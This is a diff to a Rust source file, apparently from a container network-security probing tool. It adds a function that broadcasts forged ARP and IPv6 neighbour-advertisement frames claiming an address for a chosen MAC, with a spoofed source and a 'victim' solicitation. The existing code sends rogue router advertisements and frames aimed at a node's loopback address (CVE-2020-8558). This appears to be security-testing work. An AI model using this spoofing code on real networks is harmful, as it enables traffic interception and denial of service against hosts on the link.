@@ -1,7 +1,7 @@
 //! Sockets: abstract names of other processes, and frames for the node's loopback address (CVE-2020-8558).
 
 use std::fs;
-use std::net::{Ipv4Addr, Ipv6Addr, UdpSocket};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, UdpSocket};
 use std::os::linux::net::SocketAddrExt;
 use std::os::unix::net::{SocketAddr, UnixStream};
 use std::time::{Duration, Instant};
@@ -41,11 +41,11 @@ pub(crate) fn frame(address: &str, port: &str, text: &str) -> Outcome {
             socket.local_addr()
         })
         .map_err(|error| format!("reach {gateway}: {error}"))?;
-    let std::net::IpAddr::V4(from) = own.ip() else { return Err("no IPv4".into()) };
+    let IpAddr::V4(from) = own.ip() else { return Err("no IPv4".into()) };
     let hardware = neighbour(gateway).ok_or("the gateway has no hardware address")?;
     let index = index(&link)?;
     let packet = packet(from, address, own.port(), port, text.as_bytes());
-    match raw::send_frame(libc::ETH_P_IP, index, hardware, &packet) {
+    match raw::send_packet(libc::ETH_P_IP, index, hardware, &packet) {
         Ok(_) => println!("saw sent to {address}"),
         Err(errno) => println!("held frame: {errno}"),
     }
@@ -68,6 +68,18 @@ pub(crate) fn advertise(link: &str) -> Outcome {
     // Option "prefix information" of 4 * 8 bytes: on the link and for addresses, without an end.
     message.extend([3, 4, 64, 0xc0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]);
     message.extend(Ipv6Addr::new(0xfd00, 0xbad, 0, 0, 0, 0, 0, 0).octets());
+    match raw::send_packet(libc::ETH_P_IPV6, index(link)?, ALL_NODES, &icmpv6(from, to, message)) {
+        Ok(_) => println!("saw sent"),
+        Err(errno) => println!("held advertise: {errno}"),
+    }
+    Ok(0)
+}
+
+/// MAC address of all IPv6 nodes on the link.
+const ALL_NODES: [u8; 6] = [0x33, 0x33, 0, 0, 0, 1];
+
+/// An IPv6 packet with an ICMPv6 message, whose checksum is computed, and the hop limit 255: it came from no other link.
+fn icmpv6(from: Ipv6Addr, to: Ipv6Addr, mut message: Vec<u8>) -> Vec<u8> {
     const ICMPV6: u8 = 58;
     let length = message.len() as u16;
     let pseudo =
@@ -76,19 +88,64 @@ pub(crate) fn advertise(link: &str) -> Outcome {
         pseudo.concat().chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
     let sum = (sum & 0xffff) + (sum >> 16);
     message[2..4].copy_from_slice(&(!(((sum & 0xffff) + (sum >> 16)) as u16)).to_be_bytes());
-    // Hop limit 255: the packet came from no other link.
     let mut packet = vec![0x60, 0, 0, 0];
     packet.extend(length.to_be_bytes());
     packet.extend([ICMPV6, 255]);
     packet.extend(from.octets());
     packet.extend(to.octets());
     packet.extend(message);
-    const ALL_NODES: [u8; 6] = [0x33, 0x33, 0, 0, 0, 1];
-    match raw::send_frame(libc::ETH_P_IPV6, index(link)?, ALL_NODES, &packet) {
-        Ok(_) => println!("saw sent"),
-        Err(errno) => println!("held advertise: {errno}"),
+    packet
+}
+
+/// Says to all neighbours on the link that an address belongs to the MAC address `mac`, in a frame from the MAC address `from`:
+/// by ARP (RFC 826), or by a neighbour advertisement (RFC 4861, section 4.4) and a solicitation of `victim` from the address
+/// (section 4.3). `-` stands for the link's own MAC address.
+pub(crate) fn claim(link: &str, address: &str, mac: &str, from: &str, victim: &str) -> Outcome {
+    let [mac, from] = [mac, from].map(|text| if text == "-" { own_mac(link) } else { parse_mac(text) });
+    let (mac, from) = (mac?, from?);
+    let frame = |to: [u8; 6], protocol: u16, packet: &[u8]| {
+        [&to[..], &from, &protocol.to_be_bytes(), packet].concat()
+    };
+    let frames = match address.parse::<IpAddr>().map_err(|_| format!("{address:?} is no address"))? {
+        IpAddr::V4(address) => {
+            const ALL: [u8; 6] = [0xff; 6];
+            /// Ethernet, IPv4, the lengths of their addresses; the operation follows.
+            const HEAD: [u8; 6] = [0, 1, 8, 0, 6, 4];
+            // A request and an answer: kernels believe either.
+            [1, 2].map(|operation| {
+                let packet =
+                    [&HEAD[..], &[0, operation], &mac, &address.octets(), &ALL, &address.octets()].concat();
+                frame(ALL, libc::ETH_P_ARP as u16, &packet)
+            })
+        }
+        IpAddr::V6(address) => {
+            let all = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
+            // Type, code, checksum; flags: override; the target; the option with the MAC address of the target.
+            let advertisement =
+                [&[136, 0, 0, 0, 0x20, 0, 0, 0][..], &address.octets(), &[2, 1], &mac].concat();
+            let victim: Ipv6Addr = victim.parse().map_err(|_| format!("{victim:?} is no IPv6 address"))?;
+            let solicitation = [&[135, 0, 0, 0, 0, 0, 0, 0][..], &victim.octets(), &[1, 1], &mac].concat();
+            [advertisement, solicitation]
+                .map(|message| frame(ALL_NODES, libc::ETH_P_IPV6 as u16, &icmpv6(address, all, message)))
+        }
+    };
+    for frame in frames {
+        match raw::send_frame(index(link)?, &frame) {
+            Ok(_) => println!("saw sent"),
+            Err(errno) => println!("held claim: {errno}"),
+        }
     }
     Ok(0)
+}
+
+fn own_mac(link: &str) -> Result<[u8; 6], String> {
+    let text = fs::read_to_string(format!("/sys/class/net/{link}/address"));
+    parse_mac(text.map_err(|error| format!("{link}: {error}"))?.trim())
+}
+
+fn parse_mac(text: &str) -> Result<[u8; 6], String> {
+    let bytes: Option<Vec<u8>> = text.split(':').map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
+    bytes.and_then(|bytes| bytes.try_into().ok()).ok_or_else(|| format!("{text:?} is no MAC address"))
 }
 
 /// Link and gateway of the default route: /proc/net/route, addresses in the machine's byte order.
